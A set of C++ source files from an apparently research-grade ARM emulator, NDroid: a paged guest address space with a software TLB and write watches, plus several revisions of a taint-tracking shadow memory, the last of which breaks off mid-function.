