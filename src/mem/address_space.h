// Sparse paged guest address space with a softmmu-style fast path.
//
// The emulated machine is a 32-bit ARM system; this class provides its flat
// physical/virtual memory (we do not model an MMU — Android processes are
// distinguished by non-overlapping map ranges, which is sufficient for the
// analyses in the paper). Storage is allocated lazily in 4 KiB pages so a
// full 4 GiB space costs only what is touched.
//
// Data-plane layout (the QEMU-softmmu analogue the paper's NDroid rides on):
//  * a direct-mapped software TLB of (page number -> host pointer) entries,
//    probed inline by every read*/write* call — a hit is one tag compare and
//    one host memory access, no hash probe and no function call;
//  * a flat two-level page directory (1024-entry root of lazily allocated
//    1024-slot leaves) behind the TLB, so even a miss is two dependent loads
//    rather than an unordered_map probe;
//  * page-chunked bulk ops (read_bytes/write_bytes/fill/copy/read_cstr)
//    that run memcpy/memset/memchr per resident page instead of per byte.
//
// Write-watch coherence rule: the write TLB never caches a page whose watch
// bit is set, so every store to a watched page takes the slow path and fires
// the watch (self-modifying-code invalidation keeps working). When a page's
// watch bit arms *after* a write entry was cached, the owner must call
// tlb_invalidate_write_page() (the TB cache does this via the Cpu's
// watch-armed notifier); installing a new watch bitmap flushes the write TLB
// wholesale.
#pragma once

#include <array>
#include <cstddef>
#include <cstring>
#include <functional>
#include <memory>
#include <span>
#include <string>

#include "common/types.h"

namespace ndroid::mem {

class AddressSpace {
 public:
  static constexpr u32 kPageShift = 12;
  static constexpr u32 kPageSize = 1u << kPageShift;
  static constexpr u32 kPageMask = kPageSize - 1;

  // Two-level directory over the 2^20 page numbers of the 4 GiB space.
  static constexpr u32 kLeafBits = 10;
  static constexpr u32 kLeafSlots = 1u << kLeafBits;
  static constexpr u32 kRootSlots = 1u << (32 - kPageShift - kLeafBits);

  // Direct-mapped software TLB, indexed by the low page-number bits so
  // consecutive pages occupy distinct slots.
  static constexpr u32 kTlbBits = 8;
  static constexpr u32 kTlbSlots = 1u << kTlbBits;

  AddressSpace() = default;
  AddressSpace(const AddressSpace&) = delete;
  AddressSpace& operator=(const AddressSpace&) = delete;

  // Reads fault-free: untouched memory reads as zero (like zero-fill mmap).
  [[nodiscard]] u8 read8(GuestAddr addr) const {
    const u32 page = addr >> kPageShift;
    const TlbEntry& e = read_tlb_[page & (kTlbSlots - 1)];
    if (e.page == page) [[likely]] return e.host[addr & kPageMask];
    return read8_slow(addr);
  }
  [[nodiscard]] u16 read16(GuestAddr addr) const {
    if ((addr & kPageMask) <= kPageSize - 2) [[likely]] {
      const u32 page = addr >> kPageShift;
      const TlbEntry& e = read_tlb_[page & (kTlbSlots - 1)];
      if (e.page == page) [[likely]] {
        u16 v;
        std::memcpy(&v, e.host + (addr & kPageMask), 2);
        return v;
      }
    }
    return read16_slow(addr);
  }
  [[nodiscard]] u32 read32(GuestAddr addr) const {
    if ((addr & kPageMask) <= kPageSize - 4) [[likely]] {
      const u32 page = addr >> kPageShift;
      const TlbEntry& e = read_tlb_[page & (kTlbSlots - 1)];
      if (e.page == page) [[likely]] {
        u32 v;
        std::memcpy(&v, e.host + (addr & kPageMask), 4);
        return v;
      }
    }
    return read32_slow(addr);
  }
  [[nodiscard]] u64 read64(GuestAddr addr) const;

  void write8(GuestAddr addr, u8 value) {
    const u32 page = addr >> kPageShift;
    const TlbEntry& e = write_tlb_[page & (kTlbSlots - 1)];
    if (e.page == page) [[likely]] {
      e.host[addr & kPageMask] = value;
      return;
    }
    write8_slow(addr, value);
  }
  void write16(GuestAddr addr, u16 value) {
    if ((addr & kPageMask) <= kPageSize - 2) [[likely]] {
      const u32 page = addr >> kPageShift;
      const TlbEntry& e = write_tlb_[page & (kTlbSlots - 1)];
      if (e.page == page) [[likely]] {
        std::memcpy(e.host + (addr & kPageMask), &value, 2);
        return;
      }
    }
    write16_slow(addr, value);
  }
  void write32(GuestAddr addr, u32 value) {
    if ((addr & kPageMask) <= kPageSize - 4) [[likely]] {
      const u32 page = addr >> kPageShift;
      const TlbEntry& e = write_tlb_[page & (kTlbSlots - 1)];
      if (e.page == page) [[likely]] {
        std::memcpy(e.host + (addr & kPageMask), &value, 4);
        return;
      }
    }
    write32_slow(addr, value);
  }
  void write64(GuestAddr addr, u64 value);

  void read_bytes(GuestAddr addr, std::span<u8> out) const;
  void write_bytes(GuestAddr addr, std::span<const u8> in);

  /// Reads a NUL-terminated guest string (bounded to keep a missing
  /// terminator from scanning the whole space). Page-chunked memchr — a
  /// long string costs one directory lookup per page, not per byte.
  [[nodiscard]] std::string read_cstr(GuestAddr addr,
                                      u32 max_len = 1u << 20) const;
  void write_cstr(GuestAddr addr, std::string_view s);

  void fill(GuestAddr addr, u8 value, u32 len);

  /// Byte-wise copy within guest memory; handles overlap like memmove.
  /// Page-chunked: memmove per resident source chunk, zero-fill for
  /// untouched source pages.
  void copy(GuestAddr dst, GuestAddr src, u32 len);

  /// Number of pages currently materialised (memory footprint diagnostics).
  /// Exact and O(1): maintained by page allocation.
  [[nodiscard]] std::size_t resident_pages() const { return resident_; }

  /// Write watch: `page_bitmap` is a caller-owned byte-per-4KiB-page map of
  /// interesting pages; `watch` fires after any write touching a marked
  /// page. The translation-block cache uses this to invalidate cached code
  /// on self-modification (both guest stores and host-side loads go through
  /// these write paths). Pass nullptrs to clear.
  ///
  /// Installing (or clearing) a watch flushes the write TLB: entries cached
  /// under the old bitmap may cover pages the new bitmap marks.
  using WriteWatch = std::function<void(GuestAddr addr, u32 len)>;
  void set_write_watch(const u8* page_bitmap, WriteWatch watch) {
    watch_pages_ = page_bitmap;
    watch_ = std::move(watch);
    tlb_flush_write();
  }

  /// Drops any cached write entry for `page_no`. Must be called when a
  /// page's watch bit transitions 0 -> 1 while a watch is installed (the
  /// TB cache arms code pages long after their first write).
  void tlb_invalidate_write_page(u32 page_no) {
    write_tlb_[page_no & (kTlbSlots - 1)] = TlbEntry{};
  }

  /// Raw TLB probes for callers that inline memory accesses themselves (the
  /// threaded-code micro-ops): a hit returns the host pointer for `len`
  /// bytes wholly inside one page, a miss returns nullptr and the caller
  /// falls back to read*/write* (which refills the TLB). The write probe
  /// inherits the watch coherence rule for free — watched pages are never in
  /// the write TLB, so a hit store provably cannot touch cached code.
  [[nodiscard]] const u8* tlb_probe_read(GuestAddr addr, u32 len) const {
    if ((addr & kPageMask) <= kPageSize - len) [[likely]] {
      const u32 page = addr >> kPageShift;
      const TlbEntry& e = read_tlb_[page & (kTlbSlots - 1)];
      if (e.page == page) [[likely]] return e.host + (addr & kPageMask);
    }
    return nullptr;
  }
  [[nodiscard]] u8* tlb_probe_write(GuestAddr addr, u32 len) {
    if ((addr & kPageMask) <= kPageSize - len) [[likely]] {
      const u32 page = addr >> kPageShift;
      const TlbEntry& e = write_tlb_[page & (kTlbSlots - 1)];
      if (e.page == page) [[likely]] return e.host + (addr & kPageMask);
    }
    return nullptr;
  }

  void tlb_flush_write() {
    write_tlb_.fill(TlbEntry{});
  }
  void tlb_flush() {
    read_tlb_.fill(TlbEntry{});
    tlb_flush_write();
  }

  /// Ablation switch: disabling empties both TLBs and stops refills, so
  /// every access walks the page directory (the pre-TLB configuration the
  /// golden-log ablation compares against). Enabled by default.
  void set_tlb_enabled(bool on) {
    tlb_enabled_ = on;
    tlb_flush();
  }
  [[nodiscard]] bool tlb_enabled() const { return tlb_enabled_; }

  /// Layout descriptor of the TLB arrays for code emitters that bake the
  /// probe sequence into host machine code (arm/jit.cc). The base pointers
  /// are stable for this AddressSpace's lifetime; slot layout is
  /// {u32 page; u8* host} with the offsets spelled out so the emitter never
  /// hardcodes padding assumptions.
  struct TlbView {
    const void* read_base = nullptr;
    const void* write_base = nullptr;
    u32 entry_size = 0;
    u32 page_offset = 0;
    u32 host_offset = 0;
    u32 slot_count = 0;
  };
  [[nodiscard]] TlbView tlb_view() const {
    TlbView v;
    v.read_base = read_tlb_.data();
    v.write_base = write_tlb_.data();
    v.entry_size = sizeof(TlbEntry);
    v.page_offset = static_cast<u32>(offsetof(TlbEntry, page));
    v.host_offset = static_cast<u32>(offsetof(TlbEntry, host));
    v.slot_count = kTlbSlots;
    return v;
  }

 private:
  using Page = std::array<u8, kPageSize>;
  struct Leaf {
    std::array<std::unique_ptr<Page>, kLeafSlots> pages;
  };
  static constexpr u32 kNoPage = 0xFFFFFFFFu;

  struct TlbEntry {
    u32 page = kNoPage;  // page number, kNoPage = empty slot
    u8* host = nullptr;  // host pointer to the page's first byte
  };

  [[nodiscard]] Page* find_page(GuestAddr addr) const {
    const u32 page_no = addr >> kPageShift;
    const Leaf* leaf = root_[page_no >> kLeafBits].get();
    return leaf == nullptr
               ? nullptr
               : leaf->pages[page_no & (kLeafSlots - 1)].get();
  }
  Page& touch_page(GuestAddr addr);

  /// Refill policies. Reads may cache any resident page; writes must never
  /// cache a watched page or every subsequent store would skip the watch.
  void fill_read_tlb(u32 page_no, Page& p) const {
    if (!tlb_enabled_) return;
    read_tlb_[page_no & (kTlbSlots - 1)] = {page_no, p.data()};
  }
  void fill_write_tlb(u32 page_no, Page& p) {
    if (!tlb_enabled_) return;
    if (watch_pages_ != nullptr && watch_pages_[page_no]) return;
    write_tlb_[page_no & (kTlbSlots - 1)] = {page_no, p.data()};
  }

  [[nodiscard]] u8 read8_slow(GuestAddr addr) const;
  [[nodiscard]] u16 read16_slow(GuestAddr addr) const;
  [[nodiscard]] u32 read32_slow(GuestAddr addr) const;
  void write8_slow(GuestAddr addr, u8 value);
  void write16_slow(GuestAddr addr, u16 value);
  void write32_slow(GuestAddr addr, u32 value);

  /// One predictable branch on the hot write path when no watch is set.
  void notify_write(GuestAddr addr, u32 len) {
    if (watch_pages_ == nullptr) [[likely]] return;
    const u32 first = addr >> kPageShift;
    const u32 last = (addr + len - 1) >> kPageShift;
    for (u32 page = first; page <= last; ++page) {
      if (watch_pages_[page]) {
        watch_(addr, len);
        return;
      }
    }
  }

  std::array<std::unique_ptr<Leaf>, kRootSlots> root_;
  std::size_t resident_ = 0;
  mutable std::array<TlbEntry, kTlbSlots> read_tlb_;
  std::array<TlbEntry, kTlbSlots> write_tlb_;
  bool tlb_enabled_ = true;
  const u8* watch_pages_ = nullptr;
  WriteWatch watch_;
};

}  // namespace ndroid::mem
