#include "mem/shadow_memory.h"

#include <algorithm>

namespace ndroid::mem {

const ShadowMemory::Page* ShadowMemory::find_page(GuestAddr addr) const {
  auto it = pages_.find(addr >> kPageShift);
  return it == pages_.end() ? nullptr : it->second.get();
}

ShadowMemory::Page& ShadowMemory::touch_page(GuestAddr addr) {
  auto& slot = pages_[addr >> kPageShift];
  if (!slot) {
    slot = std::make_unique<Page>();
    slot->fill(0);
  }
  return *slot;
}

Taint ShadowMemory::get(GuestAddr addr) const {
  const Page* p = find_page(addr);
  return p ? (*p)[addr & kPageMask] : kTaintClear;
}

Taint ShadowMemory::get_range(GuestAddr addr, u32 len) const {
  Taint t = kTaintClear;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    if (const Page* p = find_page(cur)) {
      for (u32 i = 0; i < chunk; ++i) t |= (*p)[in_page + i];
    }
    done += chunk;
  }
  return t;
}

void ShadowMemory::set(GuestAddr addr, Taint taint) {
  if (taint == kTaintClear && find_page(addr) == nullptr) return;
  touch_page(addr)[addr & kPageMask] = taint;
}

void ShadowMemory::add(GuestAddr addr, Taint taint) {
  if (taint == kTaintClear) return;
  touch_page(addr)[addr & kPageMask] |= taint;
}

void ShadowMemory::set_range(GuestAddr addr, u32 len, Taint taint) {
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    if (taint == kTaintClear && find_page(cur) == nullptr) {
      done += chunk;
      continue;  // clearing untouched memory needs no page
    }
    Page& p = touch_page(cur);
    std::fill_n(p.data() + in_page, chunk, taint);
    done += chunk;
  }
}

void ShadowMemory::add_range(GuestAddr addr, u32 len, Taint taint) {
  if (taint == kTaintClear) return;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    Page& p = touch_page(cur);
    for (u32 i = 0; i < chunk; ++i) p[in_page + i] |= taint;
    done += chunk;
  }
}

void ShadowMemory::copy_range(GuestAddr dst, GuestAddr src, u32 len) {
  if (len == 0 || dst == src) return;
  if (dst > src && dst < src + len) {
    for (u32 i = len; i-- > 0;) set(dst + i, get(src + i));
  } else {
    for (u32 i = 0; i < len; ++i) set(dst + i, get(src + i));
  }
}

u64 ShadowMemory::tainted_bytes() const {
  u64 n = 0;
  for (const auto& [page_no, page] : pages_) {
    for (Taint t : *page) n += (t != kTaintClear);
  }
  return n;
}

}  // namespace ndroid::mem
