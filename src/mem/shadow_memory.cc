#include "mem/shadow_memory.h"

#include <algorithm>

namespace ndroid::mem {

const ShadowMemory::Page* ShadowMemory::find_page(GuestAddr addr) const {
  const u32 page_no = addr >> kPageShift;
  if (page_no == cursor_page_) return cursor_;
  auto it = pages_.find(page_no);
  if (it == pages_.end()) return nullptr;
  cursor_page_ = page_no;
  cursor_ = it->second.get();
  return cursor_;
}

ShadowMemory::Page& ShadowMemory::touch_page(GuestAddr addr) {
  const u32 page_no = addr >> kPageShift;
  if (page_no == cursor_page_) return *cursor_;
  auto& slot = pages_[page_no];
  if (!slot) {
    slot = std::make_unique<Page>();
    slot->fill(0);
  }
  cursor_page_ = page_no;
  cursor_ = slot.get();
  return *slot;
}

Taint ShadowMemory::get(GuestAddr addr) const {
  const Page* p = find_page(addr);
  return p ? (*p)[addr & kPageMask] : kTaintClear;
}

Taint ShadowMemory::get_range(GuestAddr addr, u32 len) const {
  if (live_bytes_ == 0) return kTaintClear;  // nothing tainted anywhere
  Taint t = kTaintClear;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    if (const Page* p = find_page(cur)) {
      for (u32 i = 0; i < chunk; ++i) t |= (*p)[in_page + i];
    }
    done += chunk;
  }
  return t;
}

void ShadowMemory::set(GuestAddr addr, Taint taint) {
  if (taint == kTaintClear && find_page(addr) == nullptr) return;
  const bool was = live_bytes_ != 0;
  Taint& slot = touch_page(addr)[addr & kPageMask];
  live_bytes_ += (taint != kTaintClear) - (slot != kTaintClear);
  slot = taint;
  note_liveness(was);
}

void ShadowMemory::add(GuestAddr addr, Taint taint) {
  if (taint == kTaintClear) return;
  const bool was = live_bytes_ != 0;
  Taint& slot = touch_page(addr)[addr & kPageMask];
  live_bytes_ += (slot == kTaintClear);
  slot |= taint;
  note_liveness(was);
}

void ShadowMemory::set_range(GuestAddr addr, u32 len, Taint taint) {
  const bool was = live_bytes_ != 0;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    if (taint == kTaintClear && find_page(cur) == nullptr) {
      done += chunk;
      continue;  // clearing untouched memory needs no page
    }
    Page& p = touch_page(cur);
    for (u32 i = 0; i < chunk; ++i) {
      live_bytes_ -= (p[in_page + i] != kTaintClear);
    }
    std::fill_n(p.data() + in_page, chunk, taint);
    if (taint != kTaintClear) live_bytes_ += chunk;
    done += chunk;
  }
  note_liveness(was);
}

void ShadowMemory::add_range(GuestAddr addr, u32 len, Taint taint) {
  if (taint == kTaintClear) return;
  const bool was = live_bytes_ != 0;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    Page& p = touch_page(cur);
    for (u32 i = 0; i < chunk; ++i) {
      live_bytes_ += (p[in_page + i] == kTaintClear);
      p[in_page + i] |= taint;
    }
    done += chunk;
  }
  note_liveness(was);
}

void ShadowMemory::copy_range(GuestAddr dst, GuestAddr src, u32 len) {
  if (len == 0 || dst == src) return;
  if (dst > src && dst < src + len) {
    for (u32 i = len; i-- > 0;) set(dst + i, get(src + i));
  } else {
    for (u32 i = 0; i < len; ++i) set(dst + i, get(src + i));
  }
}

}  // namespace ndroid::mem
