#include "mem/shadow_memory.h"

#include <algorithm>

namespace ndroid::mem {

const ShadowMemory::Page* ShadowMemory::find_page(GuestAddr addr) const {
  const u32 page_no = addr >> kPageShift;
  if (page_no == cursor_page_) return cursor_;
  auto it = pages_.find(page_no);
  if (it == pages_.end()) return nullptr;
  cursor_page_ = page_no;
  cursor_ = it->second.get();
  return cursor_;
}

ShadowMemory::Page& ShadowMemory::touch_page(GuestAddr addr) {
  const u32 page_no = addr >> kPageShift;
  if (page_no == cursor_page_) return *cursor_;
  auto& slot = pages_[page_no];
  if (!slot) {
    slot = std::make_unique<Page>();
    slot->bytes.fill(0);
  }
  cursor_page_ = page_no;
  cursor_ = slot.get();
  return *slot;
}

Taint ShadowMemory::get(GuestAddr addr) const {
  const Page* p = find_page(addr);
  return p ? p->bytes[addr & kPageMask] : kTaintClear;
}

Taint ShadowMemory::get_range(GuestAddr addr, u32 len) const {
  if (live_bytes_ == 0) return kTaintClear;  // nothing tainted anywhere
  Taint t = kTaintClear;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    const Page* p = find_page(cur);
    if (p != nullptr && p->live != 0) {
      for (u32 i = 0; i < chunk; ++i) t |= p->bytes[in_page + i];
    }
    done += chunk;
  }
  return t;
}

bool ShadowMemory::any_tainted_in(GuestAddr lo, GuestAddr hi) const {
  if (live_bytes_ == 0 || lo >= hi) return false;
  const u32 first = lo >> kPageShift;
  const u32 last = (hi - 1) >> kPageShift;
  for (u32 page_no = first;; ++page_no) {
    auto it = pages_.find(page_no);
    if (it != pages_.end() && it->second->live != 0) return true;
    if (page_no == last) break;
  }
  return false;
}

void ShadowMemory::set(GuestAddr addr, Taint taint) {
  if (taint == kTaintClear && find_page(addr) == nullptr) return;
  const bool was = live_bytes_ != 0;
  Page& p = touch_page(addr);
  Taint& slot = p.bytes[addr & kPageMask];
  const u32 page_was = p.live;
  const int delta = (taint != kTaintClear) - (slot != kTaintClear);
  live_bytes_ += delta;
  p.live += delta;
  slot = taint;
  note_page(page_was, p.live);
  note_liveness(was);
}

void ShadowMemory::add(GuestAddr addr, Taint taint) {
  if (taint == kTaintClear) return;
  const bool was = live_bytes_ != 0;
  Page& p = touch_page(addr);
  Taint& slot = p.bytes[addr & kPageMask];
  const u32 page_was = p.live;
  const u32 delta = (slot == kTaintClear);
  live_bytes_ += delta;
  p.live += delta;
  slot |= taint;
  note_page(page_was, p.live);
  note_liveness(was);
}

void ShadowMemory::set_range(GuestAddr addr, u32 len, Taint taint) {
  const bool was = live_bytes_ != 0;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    if (taint == kTaintClear && find_page(cur) == nullptr) {
      done += chunk;
      continue;  // clearing untouched memory needs no page
    }
    Page& p = touch_page(cur);
    const u32 page_was = p.live;
    for (u32 i = 0; i < chunk; ++i) {
      const u32 dead = (p.bytes[in_page + i] != kTaintClear);
      live_bytes_ -= dead;
      p.live -= dead;
    }
    std::fill_n(p.bytes.data() + in_page, chunk, taint);
    if (taint != kTaintClear) {
      live_bytes_ += chunk;
      p.live += chunk;
    }
    note_page(page_was, p.live);
    done += chunk;
  }
  note_liveness(was);
}

void ShadowMemory::add_range(GuestAddr addr, u32 len, Taint taint) {
  if (taint == kTaintClear) return;
  const bool was = live_bytes_ != 0;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    Page& p = touch_page(cur);
    const u32 page_was = p.live;
    for (u32 i = 0; i < chunk; ++i) {
      const u32 fresh = (p.bytes[in_page + i] == kTaintClear);
      live_bytes_ += fresh;
      p.live += fresh;
      p.bytes[in_page + i] |= taint;
    }
    note_page(page_was, p.live);
    done += chunk;
  }
  note_liveness(was);
}

void ShadowMemory::copy_range(GuestAddr dst, GuestAddr src, u32 len) {
  if (len == 0 || dst == src) return;
  if (dst > src && dst < src + len) {
    for (u32 i = len; i-- > 0;) set(dst + i, get(src + i));
  } else {
    for (u32 i = 0; i < len; ++i) set(dst + i, get(src + i));
  }
}

}  // namespace ndroid::mem
