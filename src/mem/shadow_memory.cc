#include "mem/shadow_memory.h"

#include <algorithm>
#include <cstring>

namespace ndroid::mem {

const std::array<Taint, ShadowMemory::kPageSize> ShadowMemory::kZeroLabels{};

ShadowMemory::Page& ShadowMemory::touch_page(GuestAddr addr) {
  const u32 page_no = addr >> kPageShift;
  TlbEntry& e = tlb_[page_no & (kTlbSlots - 1)];
  if (e.page == page_no) return *e.host;
  std::unique_ptr<Leaf>& leaf = root_[page_no >> kLeafBits];
  if (leaf == nullptr) leaf = std::make_unique<Leaf>();
  std::unique_ptr<Page>& page = leaf->pages[page_no & (kLeafSlots - 1)];
  if (page == nullptr) {
    page = std::make_unique<Page>();
    page->bytes.fill(0);
    ++resident_;
    // The JIT shadow TLB may hold this page number as a negative (zero-page)
    // entry from before materialisation; drop it so the next inline probe
    // misses and refills with the real label array. Pages are only ever
    // freed wholesale (clear_all), so positive entries never dangle.
    JitTlbEntry& je = jit_tlb_[page_no & (kJitTlbSlots - 1)];
    if (je.page == page_no) je = JitTlbEntry{};
  }
  e = {page_no, page.get()};
  return *page;
}

const Taint* ShadowMemory::jit_fill(GuestAddr addr) const {
  const u32 page_no = addr >> kPageShift;
  JitTlbEntry& e = jit_tlb_[page_no & (kJitTlbSlots - 1)];
  const Page* p = find_page(addr);
  e.page = page_no;
  e.labels = p != nullptr ? p->bytes.data() : kZeroLabels.data();
  return e.labels;
}

Taint ShadowMemory::get(GuestAddr addr) const {
  const Page* p = find_page(addr);
  return p ? p->bytes[addr & kPageMask] : kTaintClear;
}

Taint ShadowMemory::get_range(GuestAddr addr, u32 len) const {
  if (live_bytes_ == 0) return kTaintClear;  // nothing tainted anywhere
  Taint t = kTaintClear;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    const Page* p = find_page(cur);
    if (p != nullptr && p->live != 0) {  // dead pages contribute nothing
      // Plain reduction loop: the compiler vectorizes this to wide ORs,
      // which beats a hand-rolled 64-bit gather on every tested shape.
      const Taint* s = p->bytes.data() + in_page;
      Taint acc = kTaintClear;
      for (u32 i = 0; i < chunk; ++i) acc |= s[i];
      t |= acc;
    }
    done += chunk;
  }
  return t;
}

bool ShadowMemory::any_tainted_in(GuestAddr lo, GuestAddr hi) const {
  if (live_bytes_ == 0 || lo >= hi) return false;
  const u32 first = lo >> kPageShift;
  const u32 last = (hi - 1) >> kPageShift;
  // Walk the directory, not the page numbers: an absent leaf rules out
  // 4 MiB per null check, so a multi-GiB window costs O(resident pages
  // inside it), not O(window size).
  for (u32 r = first >> kLeafBits; r <= (last >> kLeafBits); ++r) {
    const Leaf* leaf = root_[r].get();
    if (leaf == nullptr) continue;
    const u32 base = r << kLeafBits;
    const u32 s_lo = r == (first >> kLeafBits) ? first - base : 0;
    const u32 s_hi = r == (last >> kLeafBits) ? last - base : kLeafSlots - 1;
    for (u32 s = s_lo; s <= s_hi; ++s) {
      const Page* p = leaf->pages[s].get();
      if (p != nullptr && p->live != 0) return true;
    }
  }
  return false;
}

void ShadowMemory::set(GuestAddr addr, Taint taint) {
  if (taint == kTaintClear && find_page(addr) == nullptr) return;
  const bool was = live_bytes_ != 0;
  Page& p = touch_page(addr);
  Taint& slot = p.bytes[addr & kPageMask];
  const u32 page_was = p.live;
  const int delta = (taint != kTaintClear) - (slot != kTaintClear);
  live_bytes_ += delta;
  p.live += delta;
  slot = taint;
  note_page(page_was, p.live);
  note_liveness(was);
}

void ShadowMemory::add(GuestAddr addr, Taint taint) {
  if (taint == kTaintClear) return;
  const bool was = live_bytes_ != 0;
  Page& p = touch_page(addr);
  Taint& slot = p.bytes[addr & kPageMask];
  const u32 page_was = p.live;
  const u32 delta = (slot == kTaintClear);
  live_bytes_ += delta;
  p.live += delta;
  slot |= taint;
  note_page(page_was, p.live);
  note_liveness(was);
}

void ShadowMemory::set_range(GuestAddr addr, u32 len, Taint taint) {
  const bool was = live_bytes_ != 0;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    if (taint == kTaintClear) {
      Page* p = find_page(cur);
      if (p == nullptr || p->live == 0) {  // already clear
        done += chunk;
        continue;
      }
      const u32 page_was = p->live;
      const u32 already = count_live(*p, in_page, chunk);
      std::fill_n(p->bytes.data() + in_page, chunk, kTaintClear);
      live_bytes_ -= already;
      p->live -= already;
      note_page(page_was, p->live);
    } else {
      Page& p = touch_page(cur);
      const u32 page_was = p.live;
      const u32 already = count_live(p, in_page, chunk);
      std::fill_n(p.bytes.data() + in_page, chunk, taint);
      live_bytes_ += chunk - already;
      p.live += chunk - already;
      note_page(page_was, p.live);
    }
    done += chunk;
  }
  note_liveness(was);
}

void ShadowMemory::add_range(GuestAddr addr, u32 len, Taint taint) {
  if (taint == kTaintClear) return;
  const bool was = live_bytes_ != 0;
  u32 done = 0;
  while (done < len) {
    const GuestAddr cur = addr + done;
    const u32 in_page = cur & kPageMask;
    const u32 chunk = std::min(kPageSize - in_page, len - done);
    Page& p = touch_page(cur);
    const u32 page_was = p.live;
    if (p.live == 0) {  // every byte is fresh: bulk fill
      std::fill_n(p.bytes.data() + in_page, chunk, taint);
      live_bytes_ += chunk;
      p.live += chunk;
    } else {
      Taint* s = p.bytes.data() + in_page;
      u32 fresh = 0;
      for (u32 i = 0; i < chunk; ++i) {
        fresh += s[i] == kTaintClear;
        s[i] |= taint;
      }
      live_bytes_ += fresh;
      p.live += fresh;
    }
    note_page(page_was, p.live);
    done += chunk;
  }
  note_liveness(was);
}

void ShadowMemory::copy_range(GuestAddr dst, GuestAddr src, u32 len) {
  if (len == 0 || dst == src) return;
  const bool was = live_bytes_ != 0;
  // Same chunking and ordering as AddressSpace::copy: chunks bounded by
  // both page boundaries, ascending order unless dst overlaps src from
  // above. Per-chunk memmove over the label arrays plus a live recount of
  // the overwritten destination region keeps the counters exact.
  //
  // Epoch dedup: a destination page can be split across two chunks by a
  // source page boundary; `pending` holds that page's live count from
  // before its first chunk so note_page sees the per-(op, page) transition
  // exactly once.
  const bool backward = dst > src && dst < src + len;
  u32 pending_page = kNoPage;
  u32 pending_before = 0;
  Page* pending = nullptr;
  const auto flush = [&] {
    if (pending != nullptr) note_page(pending_before, pending->live);
    pending = nullptr;
    pending_page = kNoPage;
  };
  u32 done = backward ? len : 0;
  for (u32 remaining = len; remaining > 0;) {
    u32 pos;
    u32 chunk;
    if (backward) {
      const u32 src_room = ((src + done - 1) & kPageMask) + 1;
      const u32 dst_room = ((dst + done - 1) & kPageMask) + 1;
      chunk = std::min({src_room, dst_room, remaining});
      pos = done - chunk;
      done = pos;
    } else {
      const u32 src_room = kPageSize - ((src + done) & kPageMask);
      const u32 dst_room = kPageSize - ((dst + done) & kPageMask);
      chunk = std::min({src_room, dst_room, remaining});
      pos = done;
      done += chunk;
    }
    remaining -= chunk;
    const GuestAddr s_at = src + pos;
    const GuestAddr d_at = dst + pos;
    const u32 s_off = s_at & kPageMask;
    const u32 d_off = d_at & kPageMask;
    const Page* sp = find_page(s_at);
    const u32 src_live = sp != nullptr ? count_live(*sp, s_off, chunk) : 0;
    Page* dp = find_page(d_at);
    if (dp == nullptr) {
      if (src_live == 0) continue;  // copying clear onto absent: no-op
      dp = &touch_page(d_at);
    }
    const u32 d_page = d_at >> kPageShift;
    if (d_page != pending_page) {
      flush();
      pending_page = d_page;
      pending = dp;
      pending_before = dp->live;
    }
    const u32 before = count_live(*dp, d_off, chunk);
    if (sp != nullptr) {
      std::memmove(dp->bytes.data() + d_off, sp->bytes.data() + s_off,
                   chunk * sizeof(Taint));
    } else {
      std::fill_n(dp->bytes.data() + d_off, chunk, kTaintClear);
    }
    dp->live = dp->live - before + src_live;
    live_bytes_ = live_bytes_ - before + src_live;
  }
  flush();
  note_liveness(was);
}

void ShadowMemory::or_copy_range(GuestAddr dst, GuestAddr src, u32 len) {
  if (len == 0 || dst == src) return;
  if (live_bytes_ == 0) return;  // every source label is clear: no-op
  if (dst < src + len && src < dst + len) {
    // Overlapping regions: keep the per-byte forward cascade (a label
    // ORed into dst early may be re-read as a later source byte), which
    // is what the per-byte syslib model historically computed.
    for (u32 i = 0; i < len; ++i) add(dst + i, get(src + i));
    return;
  }
  u32 done = 0;
  while (done < len) {
    const GuestAddr s_at = src + done;
    const GuestAddr d_at = dst + done;
    const u32 src_room = kPageSize - (s_at & kPageMask);
    const u32 dst_room = kPageSize - (d_at & kPageMask);
    const u32 chunk = std::min({src_room, dst_room, len - done});
    done += chunk;
    const Page* sp = find_page(s_at);
    if (sp == nullptr || count_live(*sp, s_at & kPageMask, chunk) == 0) {
      continue;  // ORing clear labels changes nothing, allocates nothing
    }
    Page& dp = touch_page(d_at);
    const u32 page_was = dp.live;
    const Taint* s = sp->bytes.data() + (s_at & kPageMask);
    Taint* d = dp.bytes.data() + (d_at & kPageMask);
    u32 fresh = 0;
    for (u32 i = 0; i < chunk; ++i) {
      fresh += d[i] == kTaintClear && s[i] != kTaintClear;
      d[i] |= s[i];
    }
    dp.live += fresh;
    live_bytes_ += fresh;
    note_page(page_was, dp.live);
  }
